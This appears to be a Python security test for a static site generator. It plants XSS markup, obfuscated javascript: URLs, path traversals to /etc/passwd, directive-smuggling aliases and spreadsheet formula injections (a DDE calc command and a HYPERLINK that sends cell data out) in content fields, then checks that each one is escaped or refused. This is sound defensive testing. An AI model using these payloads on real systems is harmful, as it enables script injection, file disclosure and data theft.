"""Content of somebody who means harm, in every field that an outside contributor can fill, and in every file that is made of
it. The templates are the showcase's own."""

import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree

from trial import FIXTURES, ROOT, Trial, check

# What must reach no file but as text: it ends attributes, elements, templates, comments and sections of XML.
PAYLOAD = "\"><img src=x onerror=alert(1)></title></script><script>alert(2)</script>{{title}}{{{body}}}]]>--><!--'&lt;\\"
RAW = ["<img src=x", "<script>alert", "<!--'"]

# Addresses that would run something, with white space, controls and entities inside as browsers pass over them.
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#115;cript:alert(1)", "javascript&colon;alert(1)",
    "&#1;javascript:alert(1)", "java&#9;script:alert(1)", "java&NewLine;script:alert(1)", "data:text/html,x", "vbscript:x",
    "file:///etc/passwd", "blob:x", "view-source:x", "jar:x", "ws://x", "javascript&#x3A;alert(1)", "data&#58;text/html;base64,x",
]

# Paths and keys that lead out of the site or of the workspace.
KEYS = [
    'aliases: ["/../../etc/x/"]', 'aliases: ["/a/%2e%2e/%2e%2e/x/"]', 'aliases: ["//example.org/x/"]', 'aliases: ["/a\\\\..\\\\b/"]',
    'aliases: ["/a b/"]', 'aliases: ["/a\\n/b 301/"]', 'aliases: ["/a\\"; return 301 x; \\"/"]', "template: ../../x",
    "template: /etc/passwd", "parts: [../../etc/passwd]",
]
PATHS = [
    "../../../../../etc/passwd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/etc/passwd", "../assets/../../../etc/passwd",
    "..\\..\\..\\etc\\passwd", "../data/facts.csv", "../../Templates/page.mustache", "../assets/%00",
]


def cell(text):
    return '"' + text.replace('"', '""') + '"'


def escaped(text):
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


def write(trial, path, text):
    file = trial.root / "Content" / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")


def workspace(casebook, payload=PAYLOAD):
    """A workspace with a payload in every field that takes a text."""
    trial = Trial(casebook, fixtures=("base",))
    shutil.rmtree(trial.root / "Templates")
    shutil.copytree(ROOT / "Templates", trial.root / "Templates")
    text, words, field = json.dumps(payload), escaped(payload), cell(payload)
    write(trial, "site.yaml", (
        f"title: {{ zh: {text}, en: {text} }}\ndescription: {{ zh: {text}, en: {text} }}\nurl: https://example.org/report/\n"
        f"languages: [zh, en]\npublisher: {{ zh: {text}, en: {text} }}\nlicence: {{ name: {text}, url: https://example.org/ }}\n"
        "navigation: [cases, pillars]\n"))
    write(trial, "data/sources.yaml", (
        f"references:\n  - id: essay\n    type: webpage\n    title: {text}\n    author: [{{ family: {text}, given: {text} }}, "
        f"{{ literal: {text} }}]\n    publisher: {text}\n    container-title: {text}\n"
        '    URL: "https://example.org/?a=%22&b"\n    accessed: 2026-01-01\n'
        f"  - id: office\n    type: report\n    title: {text}\n    number: {text}\n    publisher-place: {text}\n"
        "    issued: { date-parts: [[2002]] }\n"))
    facts = (FIXTURES / "base" / "Content" / "data" / "facts.csv").read_text(encoding="utf-8").splitlines()
    rows = list(csv.reader(facts))
    note = rows[0].index("note_zh")
    rows[1][note] = rows[1][note + 1] = payload
    rows[2][rows[0].index("locator")] = payload.replace(";", "")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    write(trial, "data/facts.csv", out.getvalue())
    rows = list(csv.reader((FIXTURES / "base" / "Content" / "data" / "indicators.csv").read_text(encoding="utf-8").splitlines()))
    for name in ("zh", "en", "unit_zh", "definition_zh", "definition_en", "basis_zh"):
        if name in rows[0]:
            rows[1][rows[0].index(name)] = payload.replace("|", "")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    write(trial, "data/indicators.csv", out.getvalue())
    write(trial, "data/terms.csv", f"id,zh,en,zh_avoid,en_avoid,varies,note\nterm,{field},{field},,,yes,{field}\n")
    code = payload.replace("`", "")
    write(trial, "zh/cases/boston.md", (
        f"---\ntitle: {text}\nshort_title: {text}\nsummary: {text}\ndate: 2026-01-01\npillars: [integration]\ncountry: US\nplace: {text}\n"
        "---\n\n"
        f"## {words} {{#机制}}\n\n[{words}](https://example.org/ \"{words}\") ![{words}](https://example.org/a.png \"{words}\")\n\n"
        f"`{code}` [a](https://example.org/?%22><img)\n\n``` {code}\n{payload}\n```\n\n"
        f"文字[^1]，:fact[boston-licences]，:fact[boston-licences-2002]，[@essay, p. 3]。\n\n[^1]: {words}\n\n"
        f"| {words} | b |\n|---|---|\n| {words} | c |\n\n:::note\n{words}\n:::\n\n"
        "::compare{indicator=\"licences share\" caption=\"<img src=x onerror=alert(1)>'&lt;\" id=table-x}\n"))
    for language in ("zh", "en"):
        write(trial, f"{language}/evidence/index.md", f"---\ntitle: {text}\n---\n\n::ledger\n")
    write(trial, "zh/briefings/short.md", (
        f"---\ntitle: {text}\nsubtitle: {text}\nedition: {text}\naudience: {text}\nparts: [cases/boston]\n---\n\n文字。\n"))
    return trial


def faults(path, text):
    """What a file of the site holds that it must not."""
    found = []
    if path.suffix in (".html", ".xml", ".svg"):
        found += [f"{path} holds {sign}" for sign in RAW if sign in text]
    if path.suffix in (".xml", ".svg"):
        try:
            xml.etree.ElementTree.fromstring(text)
        except xml.etree.ElementTree.ParseError as error:
            found.append(f"{path} is no XML: {error}")
    if path.suffix == ".html":
        for attributes, script in re.findall(r"<script([^>]*)>(.*?)</script>", text, re.DOTALL):
            if "src=" in attributes:
                continue
            if "application/ld+json" not in attributes or "<" in script:
                found.append(f"{path}: a script that is no data")
                continue
            json.loads(script)
    if path.suffix in (".json", ".webmanifest"):
        json.loads(text)
    if path.name in ("_headers", "_redirects", "_redirects.nginx") and "onerror" in text:
        found.append(f"{path} holds the payload")
    if path.suffix == ".csv":
        for row in csv.reader(io.StringIO(text)):
            found += [f"{path}: a formula {field[:20]}" for field in row if re.match(r"[=@\t\r]|[+-][^\d]", field) and len(field) > 1]
    return found


def run(casebook):
    trial = workspace(casebook)
    status, errors = trial.build("build", "--no-pictures")
    check(status == 0, "a workspace with the payload in every field builds", errors[-1500:])
    wrong, count = [], 0
    for path in sorted(trial.site.rglob("*")) if trial.site.is_dir() else []:
        if path.is_file() and path.suffix not in (".png", ".ico"):
            count += 1
            wrong += faults(path, path.read_text(encoding="utf-8"))
    check(not wrong and count > 40, f"in none of its {count} files is the payload anything but text", *wrong)

    wrong = []
    for html in ("forbid", "allow"):
        for address in ADDRESSES:
            trial = Trial(casebook, fixtures=("base",))
            settings = trial.root / "Content" / "site.yaml"
            settings.write_text(settings.read_text(encoding="utf-8") + f"raw_html: {html}\n", encoding="utf-8")
            write(trial, "zh/x.md", f"---\ntitle: x\n---\n\n[a](<{address}>)\n\n![b](<{address}>)\n\n[c]\n\n[c]: <{address}>\n")
            status, errors = trial.build("check")
            if status != 1:
                wrong.append(f"{address} with raw_html: {html}: {status}")
    check(not wrong, f"{2 * len(ADDRESSES)} addresses that run something are refused, also where raw HTML is allowed", *wrong)

    wrong = []
    for line in KEYS:
        trial = Trial(casebook, fixtures=("base", "briefing"))
        write(trial, "zh/briefings/x.md" if line.startswith("parts") else "zh/x.md", f"---\ntitle: x\n{line}\n---\n\nx\n")
        status, errors = trial.build("check")
        if status != 1:
            wrong.append(f"{line}: {status} {errors}")
    for path in PATHS:
        trial = Trial(casebook, fixtures=("base",))
        write(trial, "zh/x.md", f"---\ntitle: x\n---\n\n[a](<{path}>)\n\n::figure[a]{{src=\"{path}\" alt=\"a\" id=fig-a}}\n")
        done = subprocess.run(trial.command("check"), capture_output=True, text=True)
        if done.returncode != 1 or "root:" in done.stdout:
            wrong.append(f"{path}: {done.returncode}")
    check(not wrong, f"{len(KEYS) + len(PATHS)} keys and paths lead out of nothing", *wrong)

    formulas(casebook)


def formulas(casebook):
    trial = Trial(casebook, fixtures=("base",))
    facts = trial.root / "Content" / "data" / "facts.csv"
    rows = list(csv.reader(facts.read_text(encoding="utf-8").splitlines()))
    rows[1][rows[0].index("note_zh")] = '=HYPERLINK("https://example.org/?"&A1)'
    rows[1][rows[0].index("note_en")] = "+cmd|' /C calc'!A0"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    facts.write_text(out.getvalue(), encoding="utf-8")
    done = subprocess.run(trial.command("check"), capture_output=True, text=True)
    check(done.stdout.count("[spreadsheet-formula]") == 2, "formulas in tables are reported at their cells", done.stdout[-800:])
    status, errors = trial.build()
    published = (trial.site / "data" / "facts.csv").read_text(encoding="utf-8")
    found = [field for row in csv.reader(io.StringIO(published)) for field in row if re.match(r"[=+@]", field)]
    check(status == 0 and not found and "'=HYPERLINK" in published, "… and stand behind an apostrophe in what is published", *found, errors)
